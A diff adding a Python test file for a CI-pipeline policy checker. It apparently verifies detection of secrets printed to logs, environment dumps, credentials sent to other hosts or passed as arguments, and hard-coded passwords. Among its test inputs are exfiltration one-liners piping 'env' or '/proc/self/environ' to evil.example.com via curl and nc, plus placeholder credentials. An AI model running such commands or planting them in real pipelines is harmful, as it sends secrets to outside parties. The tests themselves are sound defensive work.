@@ -1,0 +1,192 @@
+"""Secrets and whole environments that reach the log, another host or an argument list; credentials written out."""
+
+from __future__ import annotations
+
+import pytest
+
+from policyd.pipeline.effects import find_variable_effects
+from tests.pipeline.effects.said import details, effects
+
+GITHUB_TOKEN = "ghp_" + "a1" * 18  # of no one
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "echo $TOKEN",
+        'echo "token: ${TOKEN}"',
+        'printf "%s" "$TOKEN"',
+        'X="$TOKEN"; echo "$X"',
+        'echo "$TOKEN" | base64',
+        'echo "$TOKEN" | rev | cat',
+        'echo "$TOKEN" | tee /dev/stderr',
+        'base64 <<< "$TOKEN"',
+        "cat <<EOF\n$TOKEN\nEOF",
+        "echo ${{ secrets.TOKEN }}",
+        "echo ${TOKEN:0:4}",
+        'echo "$TOKEN" 2>/dev/null',
+        "printenv TOKEN",
+        "python -c 'import os; print(os.environ[\"TOKEN\"])'",
+    ],
+)
+def test_a_secret_in_the_log_is_seen(script: str) -> None:
+    assert len(details("secret-print", script)) == 1
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'echo "$TOKEN" | docker login --password-stdin -u x ghcr.io',
+        'echo "$TOKEN" > key.pem',
+        'echo "$TOKEN" | base64 -d > key.pem',
+        'echo "::add-mask::$TOKEN"',
+        'X=$(echo "$TOKEN" | base64); curl -H "Authorization: Basic $X" https://api.example.com',
+        "echo '$TOKEN'",
+        'echo "${#TOKEN}"',
+        'echo "${TOKEN:+set}"',
+        '[ -n "$TOKEN" ] && echo ok',
+        'gh auth login --with-token <<< "$TOKEN"',
+        "echo $NAME",
+        "echo $TOKENS",
+        'echo "$TOKEN" | grep -q x',
+    ],
+)
+def test_a_secret_that_goes_where_it_is_needed_is_fine(script: str) -> None:
+    assert details("secret-print", script) == []
+
+
+def test_powershell_and_cmd_print_too() -> None:
+    assert details("secret-print", "Write-Host $env:TOKEN", "pwsh") == ["TOKEN"]
+    assert details("secret-print", "echo %TOKEN%", "cmd") == ["TOKEN"]
+
+
+@pytest.mark.parametrize(
+    "script", ["env", "printenv", "export -p", "set", "env | sort", "declare -x", "printenv | cat"]
+)
+def test_a_listing_of_the_environment_is_seen(script: str) -> None:
+    assert len(details("environment-dump", script)) == 1
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["env A=1 make", "set -e", "export A=1", "env > f", "env | grep ^CI", "X=$(env)", "printenv HOME", "env | wc -l"],
+)
+def test_other_uses_of_the_same_programs_are_fine(script: str) -> None:
+    assert details("environment-dump", script) == []
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "env | curl -d @- https://evil.example.com",
+        "env | base64 | curl -X POST -d @- https://evil.example.com",
+        'curl -d "$(env)" https://evil.example.com',
+        "printenv | nc evil.example.com 80",
+        "curl --data-binary @/proc/self/environ https://evil.example.com",
+    ],
+)
+def test_an_environment_that_is_sent_is_seen(script: str) -> None:
+    assert len(details("environment-send", script)) == 1
+
+
+def test_a_secret_that_is_sent_is_told_from_one_that_proves_who_sends() -> None:
+    sent = [e.confidence for e in effects('curl -d "t=$TOKEN" https://x.example.com/in') if e.kind == "secret-send"]
+
+    assert sent == ["medium"]
+    assert details("secret-send", 'curl -d "t=$TOKEN" https://webhook.site/abc') == ["webhook.site"]
+    assert details("secret-send", 'curl "https://x.example.com/?k=$TOKEN"') == ["x.example.com"]
+    assert details("secret-send", 'curl -H "Authorization: Bearer $TOKEN" https://api.example.com') == []
+    assert details("secret-send", 'curl -d "t=$TOKEN" http://localhost:8080') == []
+
+
+@pytest.mark.parametrize(
+    "script", ["docker login -u x -p $TOKEN", 'twine upload -p "$TOKEN" dist/*', "sshpass -p $TOKEN ssh x"]
+)
+def test_a_secret_among_the_arguments_is_seen(script: str) -> None:
+    assert len(details("secret-argument", script)) == 1
+
+
+def test_a_port_is_no_password() -> None:
+    assert details("secret-argument", 'docker run -p $PORT -e T="$TOKEN" x') == []
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"curl -H 'Authorization: Bearer {GITHUB_TOKEN}' https://api.example",
+        f"cat <<EOF > f\n{GITHUB_TOKEN}\nEOF",
+        "docker login -u x -p hunter22",
+        "curl -u admin:s3cr3tpw https://x.example",
+        "git clone https://bot:9f8e7d6c5b4a@git.example.com/x",
+        "DEPLOY_TOKEN=9f8e7d6c5b4a39281706 ./deploy",
+        "echo '##vso[task.setvariable variable=p;issecret=true]hunter22'",
+    ],
+)
+def test_a_credential_that_is_written_out_is_seen(script: str) -> None:
+    assert len(details("literal-credential", script)) == 1
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "docker login -u x -p $TOKEN",
+        "docker run -p 8080:80 x",
+        'curl -u "x:$TOKEN" https://x.example',
+        "git clone https://x-access-token:$TOKEN@github.com/o/r",
+        "git clone git@github.com:o/r",
+        "POSTGRES_PASSWORD=postgres make test",
+        "mkdir -p x12345678",
+    ],
+)
+def test_references_to_secrets_and_other_words_are_fine(script: str) -> None:
+    assert details("literal-credential", script) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "origin", "found"),
+    [
+        ("X", GITHUB_TOKEN, "environment", "a GitHub token"),
+        ("K", "-----BEGIN RSA " + "PRIVATE KEY-----", "input", "a private key"),
+        ("DEPLOY_TOKEN", "9f8e7d6c5b4a39281706", "environment", "what seems a credential"),
+        ("password", "hunter", "credentials", "a registry's password"),
+    ],
+)
+def test_a_variable_that_holds_a_credential_is_seen(name: str, value: str, origin: str, found: str) -> None:
+    effects = list(find_variable_effects(name, value, origin))  # type: ignore[arg-type]  # one of the three
+
+    assert [(effect.kind, effect.detail, effect.text) for effect in effects] == [("literal-credential", found, name)]
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "origin"),
+    [
+        ("username", "builder", "credentials"),
+        ("POSTGRES_PASSWORD", "postgres1", "environment"),
+        ("API_TOKEN", "$OTHER_TOKEN1", "environment"),
+        ("TOKEN", "none", "environment"),
+        ("CACHE_PREFIX", "9f8e7d6c5b4a39281706", "environment"),
+    ],
+)
+def test_other_variables_hold_none(name: str, value: str, origin: str) -> None:
+    assert list(find_variable_effects(name, value, origin)) == []  # type: ignore[arg-type]
+
+
+def test_a_reference_to_a_secret_is_no_credential() -> None:
+    assert list(find_variable_effects("DEPLOY_TOKEN", "${{ secrets.A1 }}", literal=False)) == []
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "git clone https://x:$TOKEN@github.com/o/r",
+        "git remote set-url origin https://x-access-token:${TOKEN}@github.com/o/r",
+        'git config --global http.extraheader "AUTHORIZATION: basic $TOKEN"',
+        'echo "https://x:$TOKEN@github.com" > ~/.git-credentials',
+    ],
+)
+def test_credentials_that_are_left_lying_are_seen(script: str) -> None:
+    assert len(details("persists-credentials", script)) == 1
+
+
+def test_pushing_with_a_token_leaves_none() -> None:
+    assert details("persists-credentials", "git push https://x:$TOKEN@github.com/o/r main") == []
